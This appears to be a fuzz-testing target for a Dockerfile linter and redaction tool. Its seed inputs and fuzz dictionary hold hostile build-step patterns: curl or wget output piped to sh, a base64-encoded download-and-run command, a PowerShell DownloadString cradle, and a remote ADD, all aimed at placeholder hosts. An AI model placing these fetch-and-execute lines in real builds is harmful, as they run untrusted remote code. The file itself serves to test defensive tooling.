import { lint } from '../../../src/dockerfile/lint.js';
import { redactDockerfile } from '../../../src/sense/redact-dockerfile.js';
import type { Target } from '../target.js';
import { filesBelow } from './files.js';

const texts = [
  'ARG V=1\nFROM alpine:${V} AS a\nENV A=b C="d e"\nRUN set -e; x=$(curl -fsSL https://192.0.2.1/x.sh); echo "$x" | sh\n',
  'FROM a\nRUN <<EOF\nfor f in a b; do wget -qO- "http://$f/x" | base64 -d | sh; done\nEOF\nCOPY --from=a /x /y\n',
  'FROM a\nRUN echo Y3VybCBodHRwOi8vMTkyLjAuMi4xL3g= | base64 -d > /tmp/a && chmod +x /tmp/a && /tmp/a\n',
  '# escape=`\nFROM a\nSHELL ["powershell"]\nRUN iex ((New-Object Net.WebClient).DownloadString(\'http://x\')) `\n  ; exit\n',
  'FROM a\nADD http://192.0.2.1/x /x\nONBUILD RUN f() { case $1 in a) printf "%s" "${1#?}";; esac; }; f a | xargs -I{} sh -c "{}"\n',
];

/** Dockerfiles with the shell text in them: every rule looks, and values are taken out. */
export const dockerfile: Target = {
  seeds: () => [
    ...texts.map((text) => Buffer.from(text)),
    ...filesBelow('matrix', '.yaml').filter((file) => file.includes('FROM')),
  ],
  words: [
    '\nFROM a\n',
    '\nRUN ',
    '<<EOF\n',
    '\nEOF\n',
    '$(',
    ')',
    '`',
    '${',
    '${a:-',
    '}',
    '"',
    "'",
    '\\\n',
    ' | sh',
    ' && ',
    '((',
    '[[',
    'base64 -d',
    'xxd -r -p',
    'printf ',
    'eval ',
    'curl http://192.0.2.1/x ',
    '{a,b}',
    '{1..99999}',
    '$((',
    'case x in ',
    'for i in ',
    'while :; do ',
    '; done',
    'function f ',
    '\n# keelwatch ignore=',
    'ONBUILD ',
    '# syntax=',
    '# escape=`\n',
    '>/tmp/x ',
    '*a',
    '[a-z]',
    '. /tmp/x',
  ],
  run(input) {
    const text = input.toString();
    const { findings, unknown } = lint(text);
    const count = text.split(/\r\n|\r|\n/).length;
    for (const { line, column } of [...findings, ...unknown])
      if (!(line >= 1 && line <= count && column >= 1))
        throw new Error(`something is said of ${line}:${column}, of ${count} lines`);
    redactDockerfile(text);
  },
};
